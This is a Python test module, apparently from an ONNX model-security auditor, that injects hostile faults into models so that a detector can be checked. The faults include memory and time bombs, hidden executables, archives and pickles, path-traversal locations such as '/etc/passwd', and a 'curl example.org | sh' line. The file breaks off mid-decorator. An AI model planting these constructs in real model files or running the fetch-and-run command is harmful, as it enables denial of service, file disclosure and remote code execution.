"""Few bytes that ask for much: memory, time, nodes, depth; and what runs code or hides it."""

from __future__ import annotations

import os
import pickle
from collections.abc import Callable
from itertools import pairwise
from random import Random
from typing import Any

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

from auditor.report import Severity
from tests.rules.hostile_mutators import nested

from .bases import parsed
from .fault import Kind, Place, Subject, Where, fault
from .hostility_texts import calling

WARNING = Severity.WARNING

FLOAT, INT64, STRING = TensorProto.FLOAT, TensorProto.INT64, TensorProto.STRING


def ints(*values: int) -> np.ndarray:
    return np.array(values, np.int64)


def number(value: int) -> np.ndarray:
    return np.array(value, np.int64)


def real(value: float) -> np.ndarray:
    return np.array(value, np.float32)


def store(graph: onnx.GraphProto, name: str, value: np.ndarray) -> str:
    graph.initializer.append(numpy_helper.from_array(np.asarray(value), name))
    return name


def hand_out(graph: onnx.GraphProto, name: str, dtype: int = FLOAT) -> None:
    """Make a tensor an output, of any shape."""
    graph.output.add(name=name).type.tensor_type.elem_type = dtype


def a_bomb(subject: Subject, op_type: str, inputs: list[str], dtype: int = FLOAT, **attributes: Any) -> Place:
    """A node called ``extra`` whose output is one more of the model's."""
    graph = subject.model.graph
    graph.node.append(helper.make_node(op_type, inputs, ["extra_out"], "extra", **attributes))
    hand_out(graph, "extra_out", dtype)
    return Place(node="extra")


def of_images() -> onnx.ModelProto:
    """A convolution over images of open number."""
    return parsed(
        """agraph (float[N, 1, 8, 8] x) => (float[N, 2, 6, 6] y)
        <float[2, 1, 3, 3] w = {1, 2, 3, 4, 5, 6, 7, 8, 9, 1, 2, 3, 4, 5, 6, 7, 8, 9}> { y = Conv(x, w) }"""
    )


def newer() -> onnx.ModelProto:
    """The same at opset 20, which has more operators."""
    return parsed(
        """agraph (float[N, 1, 8, 8] x) => (float[N, 2, 6, 6] y)
        <float[2, 1, 3, 3] w = {1, 2, 3, 4, 5, 6, 7, 8, 9, 1, 2, 3, 4, 5, 6, 7, 8, 9}> { y = Conv(x, w) }""",
        ir=9,
        opset=20,
    )


# ---- memory: one node that makes much out of little

Make = Callable[[Subject], Where]


def a_class(name: str, what: str, make: Make, *rules: str, base: Callable[[], onnx.ModelProto] | None = None,
            least: Severity | None = WARNING) -> None:  # fmt: skip
    def inject(subject: Subject, rng: Random) -> Where:
        return make(subject)

    inject.__name__, inject.__doc__ = name, what
    fault(Kind.HOSTILE, *rules, base=base, least=least)(inject)


def bomb(op_type: str, *stored: np.ndarray | str, dtype: int = FLOAT, **attributes: Any) -> Make:
    """A node of stored inputs; "x" stands for the model's first input, "" for one that is left out."""

    def make(subject: Subject) -> Place:
        graph = subject.model.graph
        names = [
            graph.input[0].name if isinstance(value, str) and value else
            value if isinstance(value, str) else store(graph, f"extra_{i}", value)
            for i, value in enumerate(stored)
        ]  # fmt: skip
        return a_bomb(subject, op_type, names, dtype, **attributes)

    return make


ONE = np.ones(1, np.float32)

for name, what, make in (
    ("constant_of_shape", "A tensor of 16 GiB, filled.", bomb("ConstantOfShape", ints(1 << 16, 1 << 16))),
    ("constant_of_a_tebibyte", "A tensor of 4 TiB, filled.", bomb("ConstantOfShape", ints(1 << 40))),
    ("expand", "One number expanded to 8 GiB.", bomb("Expand", ONE, ints(1 << 31))),
    ("tile", "One number repeated 2^31 times.", bomb("Tile", ONE, ints(1 << 31))),
    ("range", "A range of 2^34 numbers.", bomb("Range", number(0), number(1 << 34), number(1), dtype=INT64)),
    ("range_of_floats", "A range of tiny steps.", bomb("Range", *(real(v) for v in (0, 1e6, 1e-4)))),
    ("pad", "A padding of 2^31 numbers.", bomb("Pad", ONE, ints(0, 1 << 31))),
    ("resize_by_scales", "An image scaled by 65,536.",
     bomb("Resize", np.ones((1, 1, 4, 4), np.float32), "", np.array([1, 1, 65536, 65536], np.float32))),
    ("resize_by_sizes", "An image resized to 65,536 each way.",
     bomb("Resize", np.ones((1, 1, 4, 4), np.float32), "", "", ints(1, 1, 1 << 16, 1 << 16))),
    ("one_hot", "A depth of 2^32.", bomb("OneHot", ints(1), number(1 << 32), np.array([0, 1], np.float32))),
    ("random_normal", "Random numbers for 16 GiB.", bomb("RandomNormal", shape=[1 << 16, 1 << 16])),
    ("random_uniform", "Random numbers for 8 GiB.", bomb("RandomUniform", shape=[1 << 31])),
    ("outer_product", "A column times a row: 2^34 numbers.",
     bomb("Mul", np.ones((1 << 17, 1), np.float32), np.ones((1, 1 << 17), np.float32))),
    ("gather_of_many", "One row, taken for each of many indices.",
     bomb("Gather", np.ones((1, 1 << 20), np.float32), np.zeros(1 << 12, np.int64))),
    ("where_of_a_row_and_a_column", "A choice that broadcasts to 2^34.",
     bomb("Where", np.ones((1 << 17, 1), bool), np.ones((1, 1 << 17), np.float32), ONE)),
    ("max_unpool", "An unpooling to an output of 2^32.",
     bomb("MaxUnpool", np.ones((1, 1, 2, 2), np.float32), np.zeros((1, 1, 2, 2), np.int64),
          ints(1, 1, 1 << 16, 1 << 16), kernel_shape=[2, 2])),
    ("transposed_convolution", "A transposed convolution with a stride of 65,536.",
     bomb("ConvTranspose", np.ones((1, 1, 2, 2), np.float32), np.ones((1, 1, 1, 1), np.float32),
          strides=[1 << 16, 1 << 16], output_padding=[(1 << 16) - 1, (1 << 16) - 1])),
    ("products_of_columns", "A product of a column and a row, of 2^36 numbers.",
     bomb("MatMul", np.ones((1 << 18, 1), np.float32), np.ones((1, 1 << 18), np.float32))),
    ("roi_of_much", "One region, cut out 65,536 each way.",
     bomb("RoiAlign", np.ones((1, 1, 4, 4), np.float32), np.ones((1, 4), np.float32), ints(0), output_height=1 << 16,
          output_width=1 << 16)),
    ("window_of_hann", "A window of 2^32 numbers.", bomb("HannWindow", number(1 << 32))),
    ("mel_weights", "A matrix of mel weights of 2^36.",
     bomb("MelWeightMatrix", number(1 << 18), number(1 << 19), number(16000), real(0), real(8000))),
    ("eye", "An identity matrix that is as large as what it is like.",
     lambda subject: eye(subject)),
    ("random_like_much", "Random numbers like a tensor that is expanded.",
     lambda subject: like_much(subject, "RandomNormalLike")),
    ("samples_of_multinomial", "A sample of 2^32.",
     bomb("Multinomial", np.ones((1, 2), np.float32), dtype=TensorProto.INT32, sample_size=1 << 32)),
):  # fmt: skip
    a_class(f"bomb_of_{name}", what, make, "enormous-tensors", base=of_images)

for name, what, make in (
    (
        "affine_grid",
        "A grid of 65,536 each way.",
        bomb("AffineGrid", np.ones((1, 2, 3), np.float32), ints(1, 1, 1 << 16, 1 << 16)),
    ),
    ("center_crop_pad", "A crop to 2^32.", bomb("CenterCropPad", ONE, ints(1 << 32))),
    ("pad_of_axes", "A padding along one axis that is named.", bomb("Pad", ONE, ints(0, 1 << 31), "", ints(0))),
):
    a_class(f"bomb_of_{name}", what, make, "enormous-tensors", base=newer)


def eye(subject: Subject) -> Place:
    graph = subject.model.graph
    store(graph, "extra_size", ints(1 << 16, 1 << 16))
    graph.node.append(helper.make_node("ConstantOfShape", ["extra_size"], ["extra_much"], "extra"))
    graph.node.append(helper.make_node("EyeLike", ["extra_much"], ["extra_eye"], "extra_eye"))
    hand_out(graph, "extra_eye")
    return Place(node="extra")


def like_much(subject: Subject, op_type: str) -> Place:
    graph = subject.model.graph
    store(graph, "extra_size", ints(1 << 31))
    store(graph, "extra_one", ONE)
    graph.node.append(helper.make_node("Expand", ["extra_one", "extra_size"], ["extra_much"], "extra"))
    graph.node.append(helper.make_node(op_type, ["extra_much"], ["extra_like"], "extra_like"))
    hand_out(graph, "extra_like")
    return Place(node="extra")


def steps(op_type: str, count: int, *more: str, **attributes: Any) -> Make:
    """A chain of equal steps; the first that is too large is told."""

    def make(subject: Subject) -> Where:
        graph = subject.model.graph
        names = [
            store(graph, "extra_0", np.ones((1, 1 << 10), np.float32)),
            *(f"extra_{i}" for i in range(1, count + 1)),
        ]
        store(graph, "extra_repeats", ints(1, 4))
        for i, (before, after) in enumerate(pairwise(names)):
            inputs = [before if name == "x" else name for name in more]
            graph.node.append(helper.make_node(op_type, inputs, [after], f"step{i}", **attributes))
        hand_out(graph, names[-1])
        return tuple(Place(node=f"step{i}") for i in range(count))

    return make


a_class("doubling_by_concat", "Concat of a tensor with itself, 24 times.", steps("Concat", 24, "x", "x", axis=1),
        "enormous-tensors", base=of_images)  # fmt: skip
a_class("chain_of_tiles", "Tile by four, 14 times.", steps("Tile", 14, "x", "extra_repeats"), "enormous-tensors",
        base=of_images)  # fmt: skip
a_class("doubling_of_the_input", "Concat of the model's input with itself, 40 times.",
        lambda subject: doubled_input(subject), "enormous-tensors", base=of_images)  # fmt: skip


def doubled_input(subject: Subject) -> Where:
    graph = subject.model.graph
    names = [graph.input[0].name, *(f"extra_{i}" for i in range(40))]
    for i, (before, after) in enumerate(pairwise(names)):
        graph.node.append(helper.make_node("Concat", [before, before], [after], f"step{i}", axis=0))
    hand_out(graph, names[-1])
    return tuple(Place(node=f"step{i}") for i in range(40))


@fault(Kind.HOSTILE, "enormous-tensors", least=Severity.ERROR, base=of_images)
def bomb_beyond_any_machine(subject: Subject, rng: Random) -> Where:
    """A tensor of 2^60 bytes."""
    return bomb("ConstantOfShape", ints(1 << 58))(subject)


@fault(Kind.HOSTILE, "enormous-tensors", least=WARNING)
def sparse_tensor_of_2_40(subject: Subject, rng: Random) -> Where:
    """A sparse tensor of one value and 2^40 places."""
    sparse = subject.model.graph.sparse_initializer.add(dims=[1 << 40])
    sparse.values.CopyFrom(numpy_helper.from_array(ONE, "thin"))
    sparse.indices.CopyFrom(numpy_helper.from_array(ints(7), "thin_places"))
    hand_out(subject.model.graph, "thin")
    return Place(tensor="thin")


@fault(Kind.HOSTILE, "enormous-tensors", least=WARNING, base=of_images)
def sparse_constant_of_2_40(subject: Subject, rng: Random) -> Where:
    """A Constant of one value and 2^40 places."""
    sparse = helper.make_sparse_tensor(
        numpy_helper.from_array(ONE, "v"), numpy_helper.from_array(ints(7), "i"), [1 << 40]
    )
    return a_bomb(subject, "Constant", [], sparse_value=sparse)


@fault(Kind.HOSTILE, "enormous-tensors", least=WARNING, base=of_images)
def input_that_nobody_can_feed(subject: Subject, rng: Random) -> Where:
    """An input of a tebibyte."""
    value = helper.make_tensor_value_info("flood", FLOAT, [1 << 38])
    subject.model.graph.input.append(value)
    hand_out(subject.model.graph, "flood")
    return Place(tensor="flood")


@fault(Kind.HOSTILE, "enormous-tensors", least=WARNING, base=lambda: parsed(
    """agraph (bool c, float[2] x) => (float[N] y) {
      y = If(c) <then_branch = t () => (float[A] p) { p = Relu(x) }, else_branch = e () => (float[B] q) { q = Neg(x) }>
    }"""
))  # fmt: skip
def bomb_in_a_branch(subject: Subject, rng: Random) -> Where:
    """A branch of an If that fills 16 GiB."""
    branch = rng.choice(subject.model.graph.node[0].attribute).g
    branch.initializer.append(numpy_helper.from_array(ints(1 << 32), "size"))
    branch.node.append(helper.make_node("ConstantOfShape", ["size"], ["much"], "extra"))
    branch.node.append(helper.make_node("ReduceMax", ["much"], ["most"], keepdims=1))
    branch.node.append(helper.make_node("Add", [branch.output[0].name, "most"], ["more"]))
    branch.output[0].name = "more"
    return Place(node="extra")


@fault(Kind.HOSTILE, "enormous-tensors", least=WARNING, base=calling)
def bomb_in_a_function(subject: Subject, rng: Random) -> Where:
    """A function of the model that fills 16 GiB."""
    body = subject.model.functions[0]
    size = numpy_helper.from_array(ints(1 << 32))
    body.node[0].output[0] = "before"
    body.node.append(helper.make_node("Constant", [], ["size"], value=size))
    body.node.append(helper.make_node("ConstantOfShape", ["size"], ["much"], "extra"))
    body.node.append(helper.make_node("Add", ["before", "much"], ["b"]))
    return Place(node="extra")


# ---- time


def looped(trips: int | None, body: str, more: str = "") -> Callable[[], onnx.ModelProto]:
    """A Loop called ``loop`` over one number."""
    m = '""' if trips is None else "trips"
    stored = f"<int64 trips = {{{trips}}}{more}>" if trips is not None else (f"<{more.lstrip(', ')}>" if more else "")
    inner = f"b (int64 i, bool go, float[1] a) => (bool on, float[1] c) {{ {body} }}"
    text = f'agraph (float[1] x) => (float[1] y) {stored} {{ [loop] y = Loop({m}, "", x) <body = {inner}> }}'
    return lambda: parsed(text)


QUIET = looped(10, "on = Identity(go) c = Mul(a, a)")


@fault(Kind.HOSTILE, "endless-loops", least=WARNING, base=QUIET)
def loop_of_2_62(subject: Subject, rng: Random) -> Where:
    """A Loop of 2^62 rounds."""
    subject.model.graph.initializer[0].CopyFrom(numpy_helper.from_array(number(1 << 62), "trips"))
    return Place(node="loop")


@fault(Kind.HOSTILE, "endless-loops", least=WARNING, base=QUIET)
def loop_of_ten_million(subject: Subject, rng: Random) -> Where:
    """A Loop of ten million rounds."""
    subject.model.graph.initializer[0].CopyFrom(numpy_helper.from_array(number(10_000_000), "trips"))
    return Place(node="loop")


@fault(Kind.HOSTILE, "endless-loops", least=WARNING, base=QUIET)
def loop_without_an_end(subject: Subject, rng: Random) -> Where:
    """A Loop without a number of trips whose condition is always true."""
    subject.model.graph.node[0].input[0] = ""
    del subject.model.graph.initializer[:]
    return Place(node="loop")


@fault(Kind.HOSTILE, "endless-loops", least=WARNING, base=QUIET)
def loop_whose_condition_is_a_constant(subject: Subject, rng: Random) -> Where:
    """A Loop of 2^60 rounds whose body makes its condition of a constant."""
    subject.model.graph.initializer[0].CopyFrom(numpy_helper.from_array(number(1 << 60), "trips"))
    body = subject.model.graph.node[0].attribute[0].g
    true = numpy_helper.from_array(np.array(True))
    body.node[0].CopyFrom(helper.make_node("Constant", [], ["on"], value=true))
    return Place(node="loop")


@fault(Kind.HOSTILE, "endless-loops", least=WARNING, base=QUIET)
def loop_up_to_a_far_number(subject: Subject, rng: Random) -> Where:
    """A Loop that ends when its round is a far number."""
    loop_without_an_end(subject, rng)
    body = subject.model.graph.node[0].attribute[0].g
    store(subject.model.graph, "far", number(1 << 50))
    body.node[0].CopyFrom(helper.make_node("Less", ["i", "far"], ["on"]))
    return Place(node="loop")


@fault(Kind.HOSTILE, "endless-loops", least=WARNING, base=QUIET)
def loop_whose_trips_are_worked_out(subject: Subject, rng: Random) -> Where:
    """A Loop whose number of trips is a product of constants."""
    graph = subject.model.graph
    store(graph, "some", number(1 << 20))
    graph.node.insert(0, helper.make_node("Mul", ["some", "some"], ["product"]))
    graph.node[1].input[0] = "product"
    return Place(node="loop")


@fault(Kind.HOSTILE, "endless-loops", least=WARNING, base=looped(
    10,
    "on = Identity(go) n = Constant<value = int64 {10}>() [inner] c = Loop(n, \"\", a) "
    "<body = d (int64 j, bool go2, float[1] e) => (bool on2, float[1] f) { on2 = Identity(go2) f = Mul(e, e) }>",
))  # fmt: skip
def loop_in_a_loop(subject: Subject, rng: Random) -> Where:
    """Loops of 50,000 rounds within one another."""
    many = number(50_000)
    subject.model.graph.initializer[0].CopyFrom(numpy_helper.from_array(many, "trips"))
    inner = subject.model.graph.node[0].attribute[0].g.node[1]
    inner.attribute[0].t.CopyFrom(numpy_helper.from_array(many))
    return Place(node="loop"), Place(node="inner")


@fault(Kind.HOSTILE, "endless-loops", least=WARNING, base=QUIET)
def loop_in_a_branch(subject: Subject, rng: Random) -> Where:
    """A Loop of 2^40 rounds in a branch of an If."""
    model = subject.model
    branch = onnx.GraphProto(name="branch")
    branch.node.append(model.graph.node[0])
    branch.initializer.append(numpy_helper.from_array(number(1 << 40), "trips"))
    branch.output.append(model.graph.output[0])
    branch.output[0].name = branch.node[0].output[0] = "inner_y"
    other = onnx.GraphProto(name="other")
    other.node.append(helper.make_node("Neg", ["x"], ["other_y"]))
    other.output.append(helper.make_tensor_value_info("other_y", FLOAT, [1]))
    del model.graph.node[:], model.graph.initializer[:]
    model.graph.input.append(helper.make_tensor_value_info("c", TensorProto.BOOL, []))
    model.graph.node.append(helper.make_node("If", ["c"], ["y"], "choice", then_branch=branch, else_branch=other))
    return Place(node="loop")


@fault(Kind.HOSTILE, "endless-loops", least=WARNING, base=of_images)
def scan_of_many(subject: Subject, rng: Random) -> Where:
    """A Scan over sixteen million rows that are expanded from one."""
    graph = subject.model.graph
    store(graph, "one_row", np.ones((1, 1), np.float32))
    store(graph, "many_rows", ints(1 << 24, 1))
    graph.node.append(helper.make_node("Expand", ["one_row", "many_rows"], ["rows"]))
    body = helper.make_graph(
        [helper.make_node("Neg", ["row"], ["out"])], "b",
        [helper.make_tensor_value_info("row", FLOAT, [1])], [helper.make_tensor_value_info("out", FLOAT, [1])],
    )  # fmt: skip
    graph.node.append(helper.make_node("Scan", ["rows"], ["scanned"], "scan", body=body, num_scan_inputs=1))
    hand_out(graph, "scanned")
    return Place(node="scan")


@fault(Kind.HOSTILE, "enormous-tensors", least=WARNING, base=looped(10, "on = Identity(go) c = Mul(a, a)"))
def scan_output_that_grows(subject: Subject, rng: Random) -> Where:
    """A Loop that keeps four megabytes of each of 10,000 rounds."""
    graph = subject.model.graph
    graph.initializer[0].CopyFrom(numpy_helper.from_array(number(10_000), "trips"))
    store(graph, "block", np.ones(1 << 20, np.float32))
    loop = graph.node[0]
    body = loop.attribute[0].g
    body.node.append(helper.make_node("Mul", ["a", "block"], ["kept"]))
    body.output.append(helper.make_tensor_value_info("kept", FLOAT, [1 << 20]))
    loop.output.append("all_kept")
    hand_out(graph, "all_kept")
    return Place(node="loop")


@fault(Kind.HOSTILE, "doubling-values", least=WARNING, base=looped(40, "on = Identity(go) c = Mul(a, a)"))
def tensor_that_doubles_in_a_loop(subject: Subject, rng: Random) -> Where:
    """A Loop that joins what it carries with itself, 40 times."""
    graph = subject.model.graph
    body = graph.node[0].attribute[0].g
    body.node[1].CopyFrom(helper.make_node("Concat", ["a", "a"], ["c"], axis=0))
    for value in (body.input[2], body.output[1], graph.output[0]):
        value.type.tensor_type.shape.dim[0].ClearField("dim_value")
    return Place(node="loop")


@fault(Kind.HOSTILE, "doubling-values", least=WARNING, base=looped(40, "on = Identity(go) c = Mul(a, a)"))
def tensor_that_is_tiled_in_a_loop(subject: Subject, rng: Random) -> Where:
    """A Loop that repeats what it carries, 40 times."""
    graph = subject.model.graph
    body = graph.node[0].attribute[0].g
    store(graph, "twice", ints(2))
    body.node[1].CopyFrom(helper.make_node("Tile", ["a", "twice"], ["c"]))
    for value in (body.input[2], body.output[1], graph.output[0]):
        value.type.tensor_type.shape.dim[0].ClearField("dim_value")
    return Place(node="loop")


def texts() -> onnx.ModelProto:
    """Two texts, joined."""
    return parsed("agraph (string[1] x, string[1] z) => (string[1] y) { y = StringConcat(x, z) }", ir=9, opset=20)


@fault(Kind.HOSTILE, "doubling-values", least=WARNING, base=texts)
def text_that_doubles(subject: Subject, rng: Random) -> Where:
    """A text joined with itself, 40 times."""
    names = ["x", *(f"t{i}" for i in range(40))]
    for i, (before, after) in enumerate(pairwise(names)):
        node = helper.make_node("StringConcat", [before, before], [after], f"step{i}")
        subject.model.graph.node.append(node)
    hand_out(subject.model.graph, names[-1], STRING)
    return [Place(node=f"step{i}") for i in range(40)]


@fault(Kind.HOSTILE, "doubling-values", least=WARNING, base=lambda: parsed(
    """agraph (string[1] x) => (string[1] y) <int64 trips = {40}> {
      [loop] y = Loop(trips, "", x) <body = b (int64 i, bool go, string[1] a) => (bool on, string[1] c) {
        on = Identity(go) c = Identity(a) }> }""", ir=9, opset=20))  # fmt: skip
def text_that_doubles_in_a_loop(subject: Subject, rng: Random) -> Where:
    """A Loop that joins a text with itself, 40 times."""
    body = subject.model.graph.node[0].attribute[0].g
    body.node[1].CopyFrom(helper.make_node("StringConcat", ["a", "a"], ["c"]))
    return Place(node="loop")


@fault(Kind.HOSTILE, "costly-constants", least=WARNING, base=of_images)
def products_that_fold(subject: Subject, rng: Random) -> Where:
    """A chain of products of matrices that are filled."""
    graph = subject.model.graph
    store(graph, "side", ints(3000, 3000))
    graph.node.append(helper.make_node("ConstantOfShape", ["side"], ["m0"]))
    for i in range(20):
        graph.node.append(helper.make_node("MatMul", [f"m{i}", f"m{i}"], [f"m{i + 1}"], f"product{i}"))
    hand_out(graph, "m20")
    return [Place(node=f"product{i}") for i in range(20)]


@fault(Kind.HOSTILE, "costly-constants", least=WARNING, base=of_images)
def convolution_that_folds(subject: Subject, rng: Random) -> Where:
    """A convolution over an image that is filled."""
    graph = subject.model.graph
    store(graph, "image_size", ints(1, 64, 512, 512))
    store(graph, "kernel_size", ints(64, 64, 7, 7))
    graph.node.append(helper.make_node("ConstantOfShape", ["image_size"], ["image"]))
    graph.node.append(helper.make_node("ConstantOfShape", ["kernel_size"], ["kernel"]))
    graph.node.append(helper.make_node("Conv", ["image", "kernel"], ["burnt"], "burner", kernel_shape=[7, 7]))
    hand_out(graph, "burnt")
    return Place(node="burner")


@fault(Kind.HOSTILE, "costly-constants", least=WARNING, base=of_images)
def many_that_fold(subject: Subject, rng: Random) -> Where:
    """Forty tensors of 512 MB each, worked out of one that is filled."""
    graph = subject.model.graph
    store(graph, "side", ints(1 << 27))
    graph.node.append(helper.make_node("ConstantOfShape", ["side"], ["m0"], "filled"))
    for i in range(40):
        graph.node.append(helper.make_node("Erf", [f"m{i}"], [f"m{i + 1}"], f"step{i}"))
    hand_out(graph, "m40")
    return [Place(node="filled"), *(Place(node=f"step{i}") for i in range(40))]


# ---- nodes and depth


def calls_of(length: int, calls: int) -> Callable[[Subject, Random], Where]:
    def inject(subject: Subject, rng: Random) -> Where:
        model = subject.model
        imports = [helper.make_opsetid("", 17), helper.make_opsetid("boom", 1)]
        for i in range(length):
            names = ["a", *(f"t{j}" for j in range(1, calls)), "c"]
            nodes = [helper.make_node(f"b{i + 1}", [a], [b], domain="boom") for a, b in pairwise(names)]
            model.functions.append(helper.make_function("boom", f"b{i}", ["a"], ["c"], nodes, imports))
        last = helper.make_node("Neg", ["a"], ["c"])
        model.functions.append(helper.make_function("boom", f"b{length}", ["a"], ["c"], [last], imports))
        model.opset_import.append(imports[1])
        model.graph.node.append(
            helper.make_node("b0", [model.graph.input[0].name], ["boomed"], "caller", domain="boom")
        )
        hand_out(model.graph, "boomed")
        return Place(node="caller")

    return inject


for name, what, length, calls, rule in (
    ("functions_doubling", "Functions that call the next twice, 24 deep.", 24, 2, "exploding-functions"),
    ("functions_tenfold", "Functions that call the next ten times, 8 deep.", 8, 10, "exploding-functions"),
    ("functions_sixty_deep", "Functions that call the next twice, 60 deep.", 60, 2, "exploding-functions"),
    ("functions_in_a_long_chain", "Functions that call the next once, 100 deep.", 100, 1, "deep-nesting"),
):
    function = calls_of(length, calls)
    function.__name__, function.__doc__ = name, what
    fault(Kind.HOSTILE, rule, least=WARNING, base=of_images)(function)

for depth, severity in ((10, Severity.NOTE), (20, WARNING), (30, WARNING)):

    def deep(subject: Subject, rng: Random, depth: int = depth) -> Where:
        subject.model.CopyFrom(nested(depth))
        return Place(node=f"if{depth}")

    deep.__name__, deep.__doc__ = f"branches_{depth}_deep", f"If within If, {depth} deep."
    fault(Kind.HOSTILE, "deep-nesting", least=severity, base=lambda: nested(2))(deep)


@fault(Kind.HOSTILE, "deep-nesting", least=WARNING, base=QUIET)
def loops_20_deep(subject: Subject, rng: Random) -> Where:
    """Loops within one another, 20 deep, of one round each."""
    graph = subject.model.graph
    graph.initializer[0].CopyFrom(numpy_helper.from_array(number(1), "trips"))
    for i in range(20):
        inner = onnx.NodeProto()
        inner.CopyFrom(graph.node[0])
        body = graph.node[0].attribute[0].g
        for value, new in ((body.input[0], f"i{i}"), (body.input[1], f"go{i}"), (body.input[2], f"a{i}")):
            value.name = new
        inner.name, inner.input[2], inner.output[0] = f"inner{i}", f"a{i}", f"c{i}"
        del body.node[:]
        body.node.extend([helper.make_node("Identity", [f"go{i}"], [f"on{i}"]), inner])
        body.output[0].name, body.output[1].name = f"on{i}", f"c{i}"
    return Place(node="loop")


# ---- code, and what hides


def external(subject: Subject, location: str = "data.bin", data: bytes = bytes(64), **entries: int) -> str:
    """A tensor of 16 floats in a file of its own, which is an output too."""
    graph = subject.model.graph
    tensor = graph.initializer.add(name="outer", data_type=FLOAT, dims=[16], data_location=TensorProto.EXTERNAL)
    for key, value in {"location": location, "offset": 0, "length": 64, **entries}.items():
        tensor.external_data.add(key=key, value=str(value))
    hand_out(graph, "outer")
    if data and not location.startswith(("/", "..")):
        (subject.folder / location).write_bytes(data)
    return "outer"


@fault(Kind.HOSTILE, "unreferenced-bytes")
def tail_of_external_data(subject: Subject, rng: Random) -> Where:
    """A kilobyte behind what the tensors take of a file."""
    return Place(tensor=external(subject, data=bytes(64) + rng.randbytes(1024)))


@fault(Kind.HOSTILE, "unreferenced-bytes")
def head_of_external_data(subject: Subject, rng: Random) -> Where:
    """A kilobyte before what the tensors take of a file."""
    return Place(tensor=external(subject, data=rng.randbytes(1024) + bytes(64), offset=1024))


@fault(Kind.HOSTILE, "unreferenced-bytes")
def program_behind_external_data(subject: Subject, rng: Random) -> Where:
    """A program behind the tensors of a file."""
    return Place(tensor=external(subject, data=bytes(64) + b"\x7fELF" + rng.randbytes(4096)))


@fault(Kind.HOSTILE, "unreferenced-bytes")
def zeros_behind_external_data(subject: Subject, rng: Random) -> Where:
    """A megabyte of zeros behind the tensors of a file."""
    return Place(tensor=external(subject, data=bytes(1 << 20)))


@fault(Kind.HOSTILE, "unreferenced-bytes")
def megabyte_of_documentation(subject: Subject, rng: Random) -> Where:
    """A doc string of a megabyte."""
    subject.model.doc_string = "words and " * 100_000
    return Place(attribute="doc_string")


@fault(Kind.HOSTILE, "unreferenced-bytes")
def megabyte_of_metadata(subject: Subject, rng: Random) -> Where:
    """An entry of metadata of half a megabyte."""
    subject.model.metadata_props.add(key="notes", value="words and " * 50_000)
    return Place(attribute="metadata_props[notes]")


@fault(Kind.HOSTILE, "unknown-fields", least=WARNING)
def megabyte_in_an_unknown_field(subject: Subject, rng: Random) -> Where:
    """A payload in a field that ONNX does not have."""
    payload = rng.randbytes(1 << 16)
    subject.raw = subject.model.SerializeToString() + b"\xc2\x3e\x80\x80\x04" + payload
    return Place()


@fault(Kind.HOSTILE, "unknown-fields")
def unknown_field_in_a_node(subject: Subject, rng: Random) -> Where:
    """A few bytes in a node, in a field that ONNX does not have."""
    node = rng.choice(subject.model.graph.node)
    node.MergeFromString(b"\xc2\x3e\x04evil")
    return Place()


@fault(Kind.HOSTILE, "payload-size-mismatch", least=Severity.ERROR)
def data_behind_the_data(subject: Subject, rng: Random) -> Where:
    """Raw data that is longer than its tensor."""
    stored = [t for t in subject.model.graph.initializer if t.raw_data]
    if not stored:
        return None
    tensor = rng.choice(stored)
    tensor.raw_data += b"\x7fELF" + bytes(60)
    return Place(tensor=tensor.name)


@fault(Kind.HOSTILE, "unreadable-model", least=Severity.ERROR)
def archive_behind_the_model(subject: Subject, rng: Random) -> Where:
    """A zip archive appended to the file."""
    subject.raw = subject.model.SerializeToString() + b"PK\x03\x04\x14" + rng.randbytes(500)
    return Place()


for name, what, data in (
    ("program_of_linux", "A program of Linux", b"\x7fELF\x02\x01\x01" + bytes(500)),
    ("archive", "A zip archive", b"PK\x03\x04\x14" + bytes(500)),
    ("pickle", "A pickle", pickle.dumps({"weights": list(range(200))})),
    ("shell_script", "A script", b"#!/bin/sh\ncurl example.org | sh\n" + b"#" * 500),
    (
        "program_of_windows",
        "A program of Windows",
        b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(400),
    ),
    ("model_of_numpy", "An array of NumPy", b"\x93NUMPY\x01\0" + bytes(500)),
):

    def in_a_tensor(subject: Subject, rng: Random, data: bytes = data) -> Where:
        dtype = rng.choice((TensorProto.UINT8, TensorProto.INT8))
        subject.model.graph.initializer.append(helper.make_tensor("blob", dtype, [len(data)], data, raw=True))
        hand_out(subject.model.graph, "blob", dtype)
        return Place(tensor="blob")

    in_a_tensor.__name__, in_a_tensor.__doc__ = f"{name}_in_a_tensor", f"{what} stands in a tensor of bytes."
    fault(Kind.HOSTILE, "embedded-files")(in_a_tensor)


@fault(Kind.HOSTILE, "embedded-files")
def program_in_weights(subject: Subject, rng: Random) -> Where:
    """The data of a weight begins with a program."""
    stored = [t for t in subject.model.graph.initializer if len(t.raw_data) >= 256]
    if not stored:
        return None
    tensor = rng.choice(stored)
    tensor.raw_data = b"\x7fELF\x02\x01\x01\0" + tensor.raw_data[8:]
    return Place(tensor=tensor.name)


@fault(Kind.HOSTILE, "embedded-files")
def program_in_external_data(subject: Subject, rng: Random) -> Where:
    """The external data of a tensor is a program."""
    return Place(tensor=external(subject, data=b"\x7fELF\x02\x01\x01\0" + bytes(56)))


@fault(Kind.HOSTILE, "embedded-files", base=of_images)
def archive_in_an_attribute(subject: Subject, rng: Random) -> Where:
    """A string attribute that is an archive."""
    subject.model.graph.node.append(
        helper.make_node("Constant", [], ["word"], "word", value_string=b"PK\x03\x04" + bytes(99))
    )
    hand_out(subject.model.graph, "word", STRING)
    return Place(node="word", attribute="value_string")


for name, what, location in (
    ("upwards", "External data at a path that leads upwards.", "../outside.bin"),
    ("far_upwards", "External data at a path that leads to the system's passwords.", "../../../../../etc/passwd"),
    ("absolute", "External data at an absolute path.", "/etc/passwd"),
    ("by_way_of_a_folder", "External data at a path that goes down and up again.", "sub/../../outside.bin"),
    ("of_windows", "External data at a path of Windows.", "C:\\Windows\\win.ini"),
    ("of_a_device", "External data in a device.", "/dev/zero"),
):

    def at_a_path(subject: Subject, rng: Random, location: str = location) -> Where:
        return Place(tensor=external(subject, location, b""))

    at_a_path.__name__, at_a_path.__doc__ = f"data_at_a_path_{name}", what
    fault(Kind.HOSTILE, "unreadable-external-data", least=Severity.ERROR)(at_a_path)


@fault(Kind.HOSTILE, "unreadable-external-data", least=Severity.ERROR)
def data_behind_a_link(subject: Subject, rng: Random) -> Where:
    """External data that is a link out of the folder."""
    (subject.folder / "data.bin").symlink_to("/etc/hostname")
    return Place(tensor=external(subject, data=b""))


@fault(Kind.HOSTILE, "unreadable-external-data", least=Severity.ERROR)
